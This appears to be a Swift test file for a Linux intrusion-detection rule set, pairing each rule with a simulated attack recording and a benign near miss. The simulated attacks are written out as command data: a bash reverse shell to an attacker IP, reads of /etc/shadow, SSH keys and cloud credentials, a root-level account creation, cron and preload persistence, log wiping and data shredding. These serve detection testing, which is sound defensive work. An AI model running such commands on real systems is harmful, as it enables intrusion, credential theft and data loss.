/// For one rule of the default set: a recording on which it fires, and a near miss (the benign
/// activity closest to it) on which it stays quiet. Both start from the baseline ``HostScenario``.
struct RuleScenario: Sendable, CustomStringConvertible {
    let rule: String
    let fires: @Sendable (inout HostScenario) -> Void
    let nearMiss: @Sendable (inout HostScenario) -> Void

    var description: String { rule }

    init(
        _ rule: String, fires: @escaping @Sendable (inout HostScenario) -> Void,
        nearMiss: @escaping @Sendable (inout HostScenario) -> Void
    ) {
        self.rule = rule
        self.fires = fires
        self.nearMiss = nearMiss
    }

    /// Runs `steps` on a fresh host and returns the rules that fired.
    static func run(_ steps: (inout HostScenario) -> Void) throws -> [String] {
        var host = HostScenario()
        steps(&host)
        return try host.firedRules()
    }

    static let attacker = "203.0.113.7"

    /// apt-get (600, from alice's sudo) runs dpkg (601).
    static func dpkg(_ host: inout HostScenario) {
        host.aliceRuns("/usr/bin/apt-get", ["install", "-y", "htop"], pid: 600, uid: 0)
        host.exec("/usr/bin/dpkg", ["--status-fd", "26", "--unpack", "htop.deb"], pid: 601, parent: 600, uid: 0)
    }

    /// A shell (600) below the nginx worker, as www-data: remote code execution.
    static func webShell(_ host: inout HostScenario) {
        host.exec("/bin/sh", ["-c", "id; uname -a"], pid: 600, parent: 431, comm: "sh", uid: 33)
    }

    static let all: [RuleScenario] = [
        RuleScenario(
            "Read sensitive file by untrusted program",
            fires: { host in
                host.aliceRuns("/usr/bin/cat", ["/etc/shadow"], pid: 600, uid: 0)
                host.open("/etc/shadow", pid: 600)
            },
            nearMiss: { host in
                // PAM's password helper, run by sshd for a login.
                host.exec("/usr/sbin/unix_chkpwd", ["alice", "chkexpiry"], pid: 600, parent: 500)
                host.open("/etc/shadow", pid: 600)
            }),
        RuleScenario(
            "Read SSH private key by untrusted program",
            fires: { host in
                host.aliceRuns("/usr/bin/python3", ["/tmp/.x/grab.py"], pid: 600)
                host.open("/home/alice/.ssh/id_ed25519", pid: 600)
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/ssh", ["git@example.org"], pid: 600)
                host.open("/home/alice/.ssh/id_ed25519", pid: 600)
                host.aliceRuns("/usr/bin/cat", ["/home/alice/.ssh/id_ed25519.pub"], pid: 601)
                host.open("/home/alice/.ssh/id_ed25519.pub", pid: 601)
            }),
        RuleScenario(
            "Read cloud or tool credentials by untrusted program",
            fires: { host in
                host.aliceRuns("/usr/bin/cat", ["/home/alice/.aws/credentials"], pid: 600)
                host.open("/home/alice/.aws/credentials", pid: 600)
            },
            nearMiss: { host in
                host.aliceRuns("/usr/local/bin/aws", ["s3", "ls"], pid: 600)
                host.open("/home/alice/.aws/credentials", pid: 600)
                host.aliceRuns("/usr/bin/python3", ["-m", "azure.cli", "login"], pid: 601)
                host.open("/home/alice/.azure/msal_token_cache.json", pid: 601)
            }),
        RuleScenario(
            "Search for private keys or credentials",
            fires: { host in
                host.aliceRuns("/usr/bin/grep", ["-rl", "BEGIN RSA PRIVATE KEY", "/home", "/var/www"], pid: 600)
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/grep", ["-rn", "password", "notes/"], pid: 600)
                host.aliceRuns("/usr/bin/find", [".", "-name", "*.txt"], pid: 601)
            }),
        RuleScenario(
            "Read process memory through procfs",
            fires: { host in
                host.aliceRuns("/usr/bin/python3", ["mimipenguin.py"], pid: 600, uid: 0)
                host.open("/proc/500/mem", pid: 600)
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/python3", ["mimipenguin.py"], pid: 600, uid: 0)
                host.open("/proc/500/maps", pid: 600)
            }),
        RuleScenario(
            "Shell spawned by a network service",
            fires: webShell,
            nearMiss: { host in
                host.aliceRuns("/bin/sh", ["-c", "id; uname -a"], pid: 600, comm: "sh")
                host.exec("/usr/bin/id", [], pid: 601, parent: 431, uid: 33)
                // A PHP application's mail() goes through sendmail.
                host.exec("/bin/sh", ["-c", "/usr/sbin/sendmail -t -i"], pid: 602, parent: 431, comm: "sh", uid: 33)
            }),
        RuleScenario(
            "Interactive shell as a system account",
            fires: { host in
                host.exec("/usr/bin/python3", ["-c", "import pty; pty.spawn('/bin/bash')"], pid: 600, parent: 431, uid: 33)
                host.exec("/bin/bash", [], pid: 601, parent: 600, comm: "bash", uid: 33, tty: 34817)
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/sudo", ["-u", "postgres", "-i"], pid: 600, uid: 0)
                host.exec("/bin/bash", ["-l"], pid: 601, parent: 600, comm: "bash", uid: 109, tty: HostScenario.pts0)
            }),
        RuleScenario(
            "Execution from /dev/shm",
            fires: { host in
                host.exec("/dev/shm/.x/kworkerd", [], pid: 600, parent: 431, uid: 33)
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/ls", ["-la", "/dev/shm"], pid: 600)
            }),
        RuleScenario(
            "Fileless execution via memfd",
            fires: { host in
                host.exec("/proc/self/fd/4", [], pid: 600, parent: 431, comm: "4", uid: 33, flags: "EXE_FROM_MEMFD")
            },
            nearMiss: { host in
                host.exec("/usr/bin/runc", ["init"], pid: 600, parent: 1, comm: "runc", flags: "EXE_WRITABLE")
                host.exec(
                    "memfd:runc_cloned:/proc/self/exe", ["init"], pid: 600, parent: 1, comm: "runc",
                    flags: "EXE_FROM_MEMFD", fork: false)
            }),
        RuleScenario(
            "Reverse shell command line",
            fires: { host in
                host.exec("/bin/bash", ["-c", "bash -i >& /dev/tcp/\(attacker)/4444 0>&1"], pid: 600, parent: 431, comm: "bash", uid: 33)
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/nc", ["-zv", "example.org", "443"], pid: 600)
                // A readiness check against a local database.
                host.exec("/bin/bash", ["-c", "</dev/tcp/127.0.0.1/5432"], pid: 601, parent: 1, comm: "bash")
                host.aliceRuns("/usr/bin/python3", ["-c", "import socket; print(socket.gethostname())"], pid: 602)
            }),
        RuleScenario(
            "Standard stream redirected to a network connection",
            fires: { host in
                webShell(&host)
                host.connect(pid: 600, fd: 3, local: "192.0.2.10:41000", remote: "\(attacker):4444", result: "0")
                host.syscall("dup2", pid: 600, [("res", .int(0)), ("oldfd", .int(3)), ("newfd", .int(0))])
            },
            nearMiss: { host in
                // sshd re-executing itself for a new connection hands the socket to stdin.
                host.syscall("accept4", pid: 400, [
                    ("fd", .int(5)), ("tuple", .string("198.51.100.9:52000->192.0.2.10:22")), ("queuepct", .int(0)),
                    ("queuelen", .int(0)), ("queuemax", .int(0)), ("flags", .int(0)),
                ])
                host.syscall("clone", pid: 520, [
                    ("res", .int(0)), ("tid", .int(520)), ("pid", .int(520)), ("ptid", .int(400)), ("comm", .string("sshd")),
                    ("flags", .int(0)), ("uid", .int(0)), ("gid", .int(0)),
                ])
                host.syscall("dup2", pid: 520, [("res", .int(0)), ("oldfd", .int(5)), ("newfd", .int(0))])
                host.syscall("dup2", pid: 520, [("res", .int(1)), ("oldfd", .int(0)), ("newfd", .int(1))])
            }),
        RuleScenario(
            "Shell made a network connection",
            fires: { host in
                webShell(&host)
                host.connect(pid: 600, fd: 3, local: "192.0.2.10:41000", remote: "\(attacker):443")
            },
            nearMiss: { host in
                host.aliceRuns("/bin/bash", ["-c", "echo > /dev/tcp/127.0.0.1/8080"], pid: 600, comm: "bash")
                host.connect(pid: 600, fd: 3, local: "127.0.0.1:41000", remote: "127.0.0.1:8080")
            }),
        RuleScenario(
            "SSH connection to a non-standard port",
            fires: { host in
                host.aliceRuns("/usr/bin/ssh", ["-p", "443", "-R", "9000:localhost:22", "u@\(attacker)"], pid: 600)
                host.connect(pid: 600, fd: 3, local: "192.0.2.10:41000", remote: "\(attacker):443")
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/ssh", ["git@\(attacker)"], pid: 600)
                host.connect(pid: 600, fd: 3, local: "192.0.2.10:41000", remote: "\(attacker):22")
            }),
        RuleScenario(
            "Outbound connection to a suspicious port",
            fires: { host in
                host.exec("/tmp/.x/agent", [], pid: 600, parent: 431, uid: 33)
                host.connect(pid: 600, fd: 3, local: "192.0.2.10:41000", remote: "\(attacker):4444")
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/curl", ["https://\(attacker)/"], pid: 600)
                host.connect(pid: 600, fd: 3, local: "192.0.2.10:41000", remote: "\(attacker):443")
                host.aliceRuns("/usr/bin/curl", ["http://10.1.2.3:4444/"], pid: 601)
                host.connect(pid: 601, fd: 3, local: "192.0.2.10:41001", remote: "10.1.2.3:4444")
                host.aliceRuns("/usr/bin/irssi", [], pid: 602)
                host.connect(pid: 602, fd: 3, local: "192.0.2.10:41002", remote: "\(attacker):6697")
            }),
        RuleScenario(
            "Network scanner launched",
            fires: { host in host.aliceRuns("/usr/bin/nmap", ["-sS", "10.0.0.0/24"], pid: 600, uid: 0) },
            nearMiss: { host in host.aliceRuns("/usr/bin/ping", ["-c", "1", "10.0.0.1"], pid: 600) }),
        RuleScenario(
            "Write below binary directory",
            fires: { host in
                host.aliceRuns("/usr/bin/cp", ["/tmp/ls", "/usr/bin/ls"], pid: 600, uid: 0)
                host.write("/usr/bin/ls", pid: 600)
            },
            nearMiss: { host in
                dpkg(&host)
                host.write("/usr/bin/htop.dpkg-new", pid: 601)
            }),
        RuleScenario(
            "Write to account or authentication configuration",
            fires: { host in
                webShell(&host)
                host.write("/etc/passwd", pid: 600, flags: "O_WRONLY|O_CREAT|O_APPEND")
            },
            nearMiss: { host in
                host.aliceRuns("/usr/sbin/useradd", ["-m", "bob"], pid: 600, uid: 0)
                host.write("/etc/passwd", pid: 600, flags: "O_WRONLY|O_CREAT|O_APPEND")
            }),
        RuleScenario(
            "Dynamic linker preload configured",
            fires: { host in
                host.aliceRuns("/bin/bash", ["-c", "echo /lib/x.so > /etc/ld.so.preload"], pid: 600, uid: 0, comm: "bash")
                host.write("/etc/ld.so.preload", pid: 600)
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/cat", ["/etc/ld.so.preload"], pid: 600, uid: 0)
                host.open("/etc/ld.so.preload", pid: 600)
            }),
        RuleScenario(
            "SSH authorized_keys modified",
            fires: { host in
                webShell(&host)
                host.write("/var/www/.ssh/authorized_keys", pid: 600, flags: "O_WRONLY|O_CREAT|O_APPEND")
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/vim.basic", [".ssh/authorized_keys"], pid: 600, comm: "vim")
                host.write("/home/alice/.ssh/authorized_keys", pid: 600)
            }),
        RuleScenario(
            "Cron job created or modified",
            fires: { host in
                host.aliceRuns("/bin/bash", ["-c", "echo '* * * * * root /tmp/x' > /etc/cron.d/update"], pid: 600, uid: 0, comm: "bash")
                host.write("/etc/cron.d/update", pid: 600)
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/crontab", ["-e"], pid: 600, uid: 0)
                host.write("/var/spool/cron/crontabs/alice", pid: 600)
            }),
        RuleScenario(
            "Systemd unit created or modified",
            fires: { host in
                host.aliceRuns("/usr/bin/python3", ["install.py"], pid: 600, uid: 0)
                host.write("/etc/systemd/system/dbus-helper.service", pid: 600)
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/systemctl", ["edit", "nginx"], pid: 600, uid: 0)
                host.write("/etc/systemd/system/nginx.service.d/override.conf", pid: 600)
            }),
        RuleScenario(
            "Shell startup file modified",
            fires: { host in
                host.aliceRuns("/usr/bin/python3", ["install.py"], pid: 600)
                host.write("/home/alice/.bashrc", pid: 600, flags: "O_WRONLY|O_APPEND")
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/nano", [".bashrc"], pid: 600)
                host.write("/home/alice/.bashrc", pid: 600)
            }),
        RuleScenario(
            "Package manager state tampered with",
            fires: { host in
                host.aliceRuns("/usr/bin/sed", ["-i", "s/abc/def/", "/var/lib/dpkg/info/coreutils.md5sums"], pid: 600, uid: 0)
                host.write("/var/lib/dpkg/info/coreutils.md5sums", pid: 600)
            },
            nearMiss: { host in
                dpkg(&host)
                host.write("/var/lib/dpkg/status-new", pid: 601)
            }),
        RuleScenario(
            "Log file truncated",
            fires: { host in
                host.aliceRuns("/bin/bash", ["-c", ": > /var/log/auth.log"], pid: 600, uid: 0, comm: "bash")
                host.write("/var/log/auth.log", pid: 600)
            },
            nearMiss: { host in
                host.exec("/usr/sbin/logrotate", ["/etc/logrotate.conf"], pid: 600, parent: 1)
                host.write("/var/log/nginx/access.log", pid: 600)
            }),
        RuleScenario(
            "Log file deleted or renamed",
            fires: { host in
                host.aliceRuns("/usr/bin/rm", ["-f", "/var/log/auth.log"], pid: 600, uid: 0)
                host.syscall("unlinkat", pid: 600, [
                    ("res", .int(0)), ("dirfd", .int(-100)), ("name", .string("/var/log/auth.log")), ("flags", .int(0)),
                ])
            },
            nearMiss: { host in
                host.exec("/usr/sbin/logrotate", ["/etc/logrotate.conf"], pid: 600, parent: 1)
                host.exec("/bin/gzip", ["/var/log/syslog.2"], pid: 601, parent: 600)
                host.syscall("unlinkat", pid: 601, [
                    ("res", .int(0)), ("dirfd", .int(-100)), ("name", .string("/var/log/syslog.2")), ("flags", .int(0)),
                ])
            }),
        RuleScenario(
            "Shell history deleted or replaced",
            fires: { host in
                host.aliceRuns("/usr/bin/ln", ["-sf", "/dev/null", ".bash_history"], pid: 600)
                host.syscall("symlinkat", pid: 600, [
                    ("res", .int(0)), ("target", .string("/dev/null")), ("linkdirfd", .int(-100)),
                    ("linkpath", .string(".bash_history")),
                ])
            },
            nearMiss: { host in
                // bash saving its history through a temporary file.
                host.syscall("rename", pid: 510, [
                    ("res", .int(0)), ("oldpath", .string("/home/alice/.bash_history-01234.tmp")),
                    ("newpath", .string("/home/alice/.bash_history")),
                ])
            }),
        RuleScenario(
            "Symlink created over sensitive file",
            fires: { host in
                host.aliceRuns("/usr/bin/ln", ["-s", "/etc/shadow", "/tmp/report.txt"], pid: 600)
                host.syscall("symlinkat", pid: 600, [
                    ("res", .int(0)), ("target", .string("/etc/shadow")), ("linkdirfd", .int(-100)),
                    ("linkpath", .string("/tmp/report.txt")),
                ])
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/ln", ["-s", "/etc/hostname", "/tmp/report.txt"], pid: 600)
                host.syscall("symlinkat", pid: 600, [
                    ("res", .int(0)), ("target", .string("/etc/hostname")), ("linkdirfd", .int(-100)),
                    ("linkpath", .string("/tmp/report.txt")),
                ])
            }),
        RuleScenario(
            "Hardlink created over sensitive file",
            fires: { host in
                host.aliceRuns("/usr/bin/ln", ["/etc/shadow", "/tmp/s"], pid: 600)
                host.syscall("linkat", pid: 600, [
                    ("res", .int(0)), ("olddir", .int(-100)), ("oldpath", .string("/etc/shadow")), ("newdir", .int(-100)),
                    ("newpath", .string("/tmp/s")), ("flags", .int(0)),
                ])
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/ln", ["notes.txt", "notes.bak"], pid: 600)
                host.syscall("linkat", pid: 600, [
                    ("res", .int(0)), ("olddir", .int(-100)), ("oldpath", .string("notes.txt")), ("newdir", .int(-100)),
                    ("newpath", .string("notes.bak")), ("flags", .int(0)),
                ])
            }),
        RuleScenario(
            "Setuid bit set on a file",
            fires: { host in
                host.aliceRuns("/usr/bin/chmod", ["4755", "/tmp/.rootsh"], pid: 600, uid: 0)
                host.syscall("fchmodat", pid: 600, [
                    ("res", .int(0)), ("dirfd", .int(-100)), ("filename", .string("/tmp/.rootsh")), ("mode", .string("04755")),
                ])
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/chmod", ["755", "deploy.sh"], pid: 600)
                host.syscall("fchmodat", pid: 600, [
                    ("res", .int(0)), ("dirfd", .int(-100)), ("filename", .string("deploy.sh")), ("mode", .string("0755")),
                ])
            }),
        RuleScenario(
            "Local account created or changed",
            fires: { host in
                webShell(&host)
                host.exec("/usr/sbin/useradd", ["-o", "-u", "0", "-g", "0", "sysadmin"], pid: 601, parent: 600, uid: 0)
            },
            nearMiss: { host in
                dpkg(&host)
                host.exec("/var/lib/dpkg/info/htop.postinst", ["configure"], pid: 602, parent: 601, comm: "htop.postinst")
                host.exec("/usr/sbin/adduser", ["--system", "htop"], pid: 603, parent: 602)
                host.exec("/usr/sbin/useradd", ["-r", "htop"], pid: 604, parent: 603)
            }),
        RuleScenario(
            "Process attached with ptrace",
            fires: { host in
                host.exec("/tmp/.x/inject", [], pid: 600, parent: 431, uid: 33)
                host.syscall("ptrace", pid: 600, [
                    ("res", .int(0)), ("request", .string("PTRACE_ATTACH")), ("pid", .int(431)), ("addr", .int(0)),
                    ("data", .int(0)),
                ])
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/gdb", ["-p", "431"], pid: 600, uid: 0)
                host.syscall("ptrace", pid: 600, [
                    ("res", .int(0)), ("request", .string("PTRACE_ATTACH")), ("pid", .int(431)), ("addr", .int(0)),
                    ("data", .int(0)),
                ])
            }),
        RuleScenario(
            "Ptrace anti-debugging",
            fires: { host in
                host.aliceRuns("/home/alice/crackme", [], pid: 600)
                host.syscall("ptrace", pid: 600, [
                    ("res", .int(0)), ("request", .string("PTRACE_TRACEME")), ("pid", .int(0)), ("addr", .int(0)),
                    ("data", .int(0)),
                ])
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/strace", ["ls"], pid: 600)
                host.syscall("clone", pid: 601, [
                    ("res", .int(0)), ("tid", .int(601)), ("pid", .int(601)), ("ptid", .int(600)),
                    ("comm", .string("strace")), ("flags", .int(0)), ("uid", .int(1000)), ("gid", .int(1000)),
                ])
                host.syscall("ptrace", pid: 601, [
                    ("res", .int(0)), ("request", .string("PTRACE_TRACEME")), ("pid", .int(0)), ("addr", .int(0)),
                    ("data", .int(0)),
                ])
            }),
        RuleScenario(
            "Kernel module loaded by unexpected program",
            fires: { host in
                host.aliceRuns("/tmp/.x/loader", [], pid: 600, uid: 0)
                host.open("/tmp/.x/diamorphine.ko", pid: 600, flags: "O_RDONLY|O_CLOEXEC", fd: 3)
                host.syscall("finit_module", pid: 600, [
                    ("res", .int(0)), ("fd", .int(3)), ("uargs", .string("")), ("flags", .int(0)),
                ])
            },
            nearMiss: { host in
                // The kernel asks modprobe for a module (request_module).
                host.exec("/sbin/modprobe", ["-q", "--", "net-pf-10"], pid: 600, parent: 2, comm: "modprobe")
                host.open("/lib/modules/6.1.0-28-amd64/kernel/net/ipv6/ipv6.ko", pid: 600)
                host.syscall("finit_module", pid: 600, [
                    ("res", .int(0)), ("fd", .int(3)), ("uargs", .string("")), ("flags", .int(0)),
                ])
            }),
        RuleScenario(
            "BPF program loaded by unexpected program",
            fires: { host in
                host.aliceRuns("/tmp/.x/hider", [], pid: 600, uid: 0)
                host.syscall("bpf", pid: 600, [("fd", .int(5)), ("cmd", .string("BPF_PROG_LOAD"))])
            },
            nearMiss: { host in
                // systemd installs a cgroup device program when it starts a unit.
                host.syscall("bpf", pid: 1, [("fd", .int(40)), ("cmd", .string("BPF_PROG_LOAD"))])
                host.aliceRuns("/tmp/.x/hider", [], pid: 600, uid: 0)
                host.syscall("bpf", pid: 600, [("fd", .int(5)), ("cmd", .string("BPF_MAP_CREATE"))])
            }),
        RuleScenario(
            "Hidden file created below /dev",
            fires: { host in
                webShell(&host)
                host.write("/dev/.udev-cache", pid: 600)
            },
            nearMiss: { host in
                host.aliceRuns("/usr/bin/python3", ["worker.py"], pid: 600)
                host.write("/dev/shm/.worker.lock", pid: 600, flags: "O_RDWR|O_CREAT")
                // Every shell redirection to /dev/null opens it with O_CREAT|O_TRUNC.
                host.aliceRuns("/bin/sh", ["-c", "make >/dev/null 2>&1"], pid: 601, comm: "sh")
                host.write("/dev/null", pid: 601, fd: 1)
                host.write("/dev/stderr", pid: 601, fd: 2)
            }),
        RuleScenario(
            "Bulk data destruction tool launched",
            fires: { host in host.aliceRuns("/usr/bin/shred", ["-uz", "/var/lib/postgresql/15/main/base"], pid: 600, uid: 0) },
            nearMiss: { host in host.aliceRuns("/usr/bin/rm", ["-rf", "build"], pid: 600) }),
    ]
}
